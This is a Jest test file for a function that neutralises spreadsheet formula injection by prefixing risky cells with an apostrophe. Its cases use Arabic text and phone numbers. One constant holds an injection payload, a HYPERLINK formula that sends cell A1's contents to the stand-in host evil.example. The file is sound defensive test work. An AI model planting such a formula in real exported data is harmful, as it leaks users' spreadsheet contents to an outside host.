import { safeSpreadsheetCell } from './spreadsheet-cell';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';

describe('a spreadsheet cell that stays data', () => {
  it.each([
    ['=', HYPERLINK],
    ['+', '+961 3 123456'],
    ['-', '-عميل'],
    ['@', '@SUM(A1:A9)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
  ])('puts an apostrophe before text that begins with %s', (_, text) => {
    expect(safeSpreadsheetCell(text)).toBe(`'${text}`);
  });

  it('sees a formula character behind leading spaces, which some spreadsheets trim', () => {
    expect(safeSpreadsheetCell('  =1+1')).toBe("'  =1+1");
    expect(safeSpreadsheetCell('\u00a0-عميل')).toBe("'\u00a0-عميل");
    expect(safeSpreadsheetCell('\n@x')).toBe("'\n@x");
  });

  it('keeps numbers numbers: a negative amount or a credit gains no apostrophe', () => {
    expect(safeSpreadsheetCell(-12.5)).toBe('-12.5');
    expect(safeSpreadsheetCell(0)).toBe('0');
    expect(safeSpreadsheetCell(895_000)).toBe('895000');
    expect(safeSpreadsheetCell('-12.5')).toBe('-12.5');
    expect(safeSpreadsheetCell('-40')).toBe('-40');
  });

  it('leaves ordinary text, text with a formula character inside, and empty cells as they are', () => {
    expect(safeSpreadsheetCell('أحمد = أبو علي')).toBe('أحمد = أبو علي');
    expect(safeSpreadsheetCell('#1000')).toBe('#1000');
    expect(safeSpreadsheetCell('03-123456')).toBe('03-123456');
    expect(safeSpreadsheetCell('')).toBe('');
    expect(safeSpreadsheetCell(null)).toBe('');
  });

  it('keeps a plus sign on a number as text, so a phone number keeps its plus', () => {
    expect(safeSpreadsheetCell('+9613123456')).toBe("'+9613123456");
  });

  it('writes nothing for a number that is not finite', () => {
    expect(safeSpreadsheetCell(Number.NaN)).toBe('');
    expect(safeSpreadsheetCell(Number.NEGATIVE_INFINITY)).toBe('');
  });

  it('is idempotent: a neutralised cell is not neutralised twice', () => {
    expect(safeSpreadsheetCell(safeSpreadsheetCell(HYPERLINK))).toBe(`'${HYPERLINK}`);
  });
});
